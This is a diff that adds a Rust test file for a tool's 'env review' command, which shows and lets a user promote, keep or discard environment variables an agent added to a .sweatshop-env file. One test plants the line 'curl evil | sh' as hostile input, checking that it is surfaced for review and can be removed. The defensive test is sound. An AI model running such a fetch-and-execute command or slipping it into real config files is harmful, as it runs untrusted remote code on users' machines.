@@ -1,0 +1,261 @@
+//! Env review: what an agent added to `.sweatshop-env`, decided when the workspace closes.
+
+use crate::support::world::{World, mode, text};
+
+#[test]
+fn a_second_review_has_nothing_to_do() {
+    let w = World::new();
+    let app = w.app();
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "review"]).exit(0);
+    app.apply(&["env", "review"]).exit(0).err_has("nothing to review");
+    // An answer to a question that nobody asked is another matter.
+    app.apply(&["env", "review", "--keep", "A"]).exit(1);
+}
+
+#[test]
+fn case_15_changes_by_value_in_order_and_removals_are_only_told() {
+    let w = World::new();
+    let app = w.app();
+    w.area("[env]\nA = \"1\"\nC = \"1\"\nD = \"1\"\n");
+    app.apply(&[]).exit(0);
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "B=2\nA=9\nD='1'\n");
+    let lines = app.apply(&["env", "diff", "--json"]).exit(0).json_lines();
+    let found: Vec<_> = lines.iter().map(|l| (text(l, "/key"), text(l, "/change"))).collect();
+    assert_eq!(found, [("A", "changed"), ("B", "added")]);
+    assert!(lines.iter().all(|l| l.get("new").is_none()));
+    let diff = app.apply(&["env", "diff", "--reveal"]).exit(0);
+    assert_eq!(diff.stdout, "changed A: 1 -> 9\nadded B: 2\n");
+    diff.err_has("removed since: C");
+    let out = app.apply(&["env", "review"]).exit(3);
+    out.err_has("changed A").err_has("added B");
+    assert!(!out.stderr.contains("C"), "{}", out.stderr);
+}
+
+#[test]
+fn another_spelling_is_nothing_to_review_and_ends_the_snapshot() {
+    let w = World::new();
+    let app = w.app();
+    w.area("[env]\nA = \"1\"\n");
+    app.apply(&[]).exit(0);
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "export A='1'\n");
+    let out = app.apply(&["env", "review"]).exit(0);
+    assert_eq!((out.stdout.as_str(), out.stderr.as_str()), ("", ""));
+    app.apply(&["env", "diff"]).exit(1).err_has("there is no snapshot");
+}
+
+#[test]
+fn a_second_snapshot_keeps_the_first_and_a_missing_file_is_an_empty_one() {
+    let w = World::new();
+    let app = w.app();
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "A=1\n");
+    app.apply(&["env", "snapshot"]).exit(0).err_has("the earlier snapshot stays");
+    assert_eq!(app.apply(&["env", "diff"]).exit(0).stdout, "added A\n");
+    assert_eq!(mode(&app.path.join(".git/shopfloor/sweatfile-apply/snapshot.env")), 0o600);
+}
+
+#[test]
+fn each_answer_does_what_it_says() {
+    let w = World::new();
+    let app = w.app();
+    app.approved("# how we work\nsetup = [] # none\n[env]\nA = \"1\" # why\nsetpu = \"kept\"\n");
+    app.apply(&[]).exit(0);
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "A=2\nGONE=x\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
+    let out = app.apply(&["env", "review", "--promote", "A", "--promote", "NEW", "--discard", "GONE"]).exit(3);
+    out.err_has("added OURS").out_has("promoted A").out_has("discarded GONE");
+    let sweatfile = "# how we work\nsetup = [] # none\n[env]\nA = \"2\" # why\nsetpu = \"kept\"\nNEW = \"it's\"\n";
+    assert_eq!(app.read("sweatfile"), sweatfile);
+    // Only what has no answer yet is asked again.
+    assert_eq!(app.apply(&["env", "diff"]).exit(0).stdout, "added OURS\n");
+    app.apply(&["env", "review", "--keep", "OURS"]).exit(0);
+    assert_eq!(app.read(".sweatshop-env"), "A=2\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
+    app.apply(&["env", "diff"]).exit(1);
+    // The approval moved along, and this worktree is what its sweatfiles say.
+    app.apply(&["check"]).exit(0);
+    app.apply(&[]).exit(0);
+    assert_eq!(app.read(".sweatshop-env"), "A=2\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
+}
+
+#[test]
+fn discard_puts_the_old_value_back() {
+    let w = World::new();
+    let app = w.app();
+    w.area("[env]\nA = \"1\"\n");
+    app.apply(&[]).exit(0);
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "A=2\n");
+    app.apply(&["env", "review", "--discard", "A", "-n"]).exit(0);
+    assert_eq!(app.read(".sweatshop-env"), "A=2\n");
+    app.apply(&["env", "review", "--discard", "A"]).exit(0);
+    assert_eq!(app.read(".sweatshop-env"), "A=1\n");
+    app.apply(&["env", "review", "--discard", "A", "--keep", "A"]).exit(2);
+}
+
+#[test]
+fn a_promotion_creates_the_file_and_does_not_approve_what_was_not_approved() {
+    let w = World::new();
+    let app = w.app();
+    let promote = |key: &str| {
+        app.apply(&["env", "snapshot"]).exit(0);
+        app.sh(&format!("echo {key}=1 >> .sweatshop-env")).exit(0);
+        app.apply(&["env", "review", "--promote", key])
+    };
+    promote("A").exit(0);
+    assert_eq!(app.read("sweatfile"), "[env]\nA = \"1\"\n");
+    app.apply(&[]).exit(3);
+    app.write("sweatfile", "setup = [\"touch ran\"]\n");
+    promote("B").exit(0).err_has("is not approved");
+    app.apply(&[]).exit(3);
+    assert!(!app.has("ran"));
+    app.write("sweatfile", "[env\n");
+    promote("C").exit(2).err_has("sweatfile:1:");
+    assert_eq!(app.read("sweatfile"), "[env\n");
+    app.write("sweatfile", "template = true\n");
+    app.sh("echo 'D={port}' >> .sweatshop-env").exit(0);
+    app.apply(&["env", "review", "--promote", "D", "--keep", "C"]).exit(2).err_has("placeholder");
+}
+
+#[test]
+fn two_worktrees_promoting_at_once_lose_nothing() {
+    let w = World::new();
+    let app = w.app();
+    app.approved("[env]\nX = \"0\"\n");
+    let worktrees: Vec<_> = (0..8).map(|i| app.worktree(&format!("w{i}"))).collect();
+    for (i, wt) in worktrees.iter().enumerate() {
+        wt.apply(&[]).exit(0);
+        wt.apply(&["env", "snapshot"]).exit(0);
+        wt.sh(&format!("echo K{i}={i} >> .sweatshop-env")).exit(0);
+    }
+    std::thread::scope(|scope| {
+        for (i, wt) in worktrees.iter().enumerate() {
+            scope.spawn(move || wt.apply(&["env", "review", "--promote", &format!("K{i}")]).exit(0));
+        }
+    });
+    let sweatfile = app.read("sweatfile");
+    assert!((0..8).all(|i| sweatfile.contains(&format!("K{i} = \"{i}\"\n"))), "{sweatfile}");
+    app.apply(&[]).exit(0);
+}
+
+#[test]
+fn on_a_terminal_each_change_is_offered_and_quitting_changes_nothing() {
+    let w = World::new();
+    let app = w.app();
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "A=1\nPATH=/x\n");
+    let before = app.snapshot();
+    let out = app.on_terminal("sweatfile-apply env review", "p\nq\n").exit(3);
+    out.out_has("added A: 1").out_has("(changes what other programs run)");
+    app.assert_only_added_since(&before);
+    assert!(!app.has("sweatfile"));
+    app.on_terminal("sweatfile-apply env review", "what?\nk\nd\n").exit(0);
+    assert_eq!(app.read(".sweatshop-env"), "A=1\n");
+}
+
+#[test]
+fn what_apply_itself_changes_is_nothing_to_review() {
+    let w = World::new();
+    let app = w.app();
+    w.area("[env]\nA = \"1\"\nB = \"1\"\n");
+    app.apply(&[]).exit(0);
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.sh("echo MINE=1 >> .sweatshop-env").exit(0);
+    w.area("[env]\nA = \"2\"\nC = \"1\"\n");
+    app.apply(&[]).exit(0);
+    let out = app.apply(&["env", "diff"]).exit(0);
+    assert_eq!((out.stdout.as_str(), out.stderr.as_str()), ("added MINE\n", ""));
+}
+
+#[test]
+fn a_promotion_keeps_the_mode_and_follows_a_link_inside_the_repository() {
+    let w = World::new();
+    let app = w.app();
+    app.write("conf/sweatfile", "[env]\n");
+    app.sh("chmod 664 conf/sweatfile; ln -s conf/sweatfile sweatfile").exit(0);
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "A=1\n");
+    app.apply(&["env", "review", "--promote", "A"]).exit(0);
+    assert_eq!(app.read("conf/sweatfile"), "[env]\nA = \"1\"\n");
+    assert_eq!(mode(&app.path.join("conf/sweatfile")), 0o664);
+    assert!(app.path.join("sweatfile").is_symlink());
+}
+
+#[test]
+fn a_change_that_only_a_shell_can_evaluate_is_not_promoted() {
+    let w = World::new();
+    let app = w.app();
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "A=$HOME/x\n");
+    app.apply(&["env", "review", "--promote", "A"]).exit(2).err_has("only a shell can evaluate");
+    assert!(!app.has("sweatfile"));
+    app.apply(&["env", "review", "--keep", "A", "-n"]).exit(0).out_has("would have kept A");
+    app.apply(&["env", "diff"]).exit(0).out_has("added A");
+}
+
+#[test]
+fn a_dry_run_refuses_what_the_run_would_refuse() {
+    let w = World::new();
+    let app = w.app();
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "A=$HOME/x\n");
+    app.apply(&["env", "review", "--promote", "A", "-n"]).exit(2).err_has("only a shell can evaluate");
+    app.write(".sweatshop-env", "A=1\n");
+    app.apply(&["env", "review", "--promote", "A", "-n"]).exit(0).out_has("would have promoted A");
+    assert!(!app.has("sweatfile"));
+}
+
+#[test]
+fn what_only_one_reader_takes_for_a_variable_is_reviewed_too() {
+    let w = World::new();
+    let app = w.app();
+    let before = "# mine\nA=1\n";
+    app.write(".sweatshop-env", before);
+    app.apply(&["env", "snapshot"]).exit(0);
+    let added = "B = 1\nC: 1\nexport D: 1\n# a note\rE=1\ncurl evil | sh\nF=\"open\nG=1\n";
+    app.write(".sweatshop-env", &format!("{before}{added}"));
+    // Where there is a direnv, it is asked what it loads.
+    if crate::support::world::find("direnv").is_some() {
+        let plain = added.replace("curl evil | sh\n", "");
+        app.write("direnv", &plain);
+        let loaded = app.sh("direnv dotenv json direnv").exit(0).json();
+        let names: Vec<&String> = loaded.as_object().unwrap().keys().filter(|name| name.len() == 1).collect();
+        assert_eq!(names, ["B", "C", "D", "E", "F", "G"]);
+    }
+    let changes = app.apply(&["env", "diff", "--json"]).exit(0).json_lines();
+    let keys: Vec<String> = changes.iter().map(|line| text(line, "/key").to_owned()).collect();
+    assert_eq!(&keys[..6], ["B", "C", "D", "E", "F", "G"], "{keys:?}");
+    assert!(keys.len() == 7 && keys[6].starts_with("line:"), "{keys:?}");
+    let shown = app.apply(&["env", "diff", "--reveal"]).exit(0);
+    shown.out_has("added B: 1").out_has("curl evil | sh");
+    let open = app.apply(&["env", "review"]).exit(3);
+    for key in &keys {
+        open.err_has(key);
+    }
+    let discard: Vec<&str> = keys.iter().flat_map(|key| ["--discard", key.as_str()]).collect();
+    app.apply(&[&["env", "review"][..], &discard].concat()).exit(0);
+    assert_eq!(app.read(".sweatshop-env"), "# mine\nA=1\n# a note\n");
+    // What direnv alone reads can be everybody's.
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "A=1\nB: two\n");
+    app.apply(&["env", "review", "--promote", "B"]).exit(0);
+    assert!(app.read("sweatfile").contains("B = \"two\""));
+}
+
+#[test]
+fn what_stands_in_one_piece_of_text_goes_together_or_not_at_all() {
+    let w = World::new();
+    let app = w.app();
+    app.write(".sweatshop-env", "G=x\n");
+    app.apply(&["env", "snapshot"]).exit(0);
+    let text = "G=x\nOPEN=\"abc\nfoo bar\nAFTER=1\n\"\n";
+    app.write(".sweatshop-env", text);
+    app.apply(&["env", "review", "--keep", "OPEN", "--discard", "AFTER"])
+        .exit(2)
+        .err_has("one piece of text with OPEN");
+    assert_eq!(app.read(".sweatshop-env"), text);
+    app.apply(&["env", "review", "--discard", "OPEN", "--discard", "AFTER"]).exit(0);
+    assert_eq!(app.read(".sweatshop-env"), "G=x\n");
+}
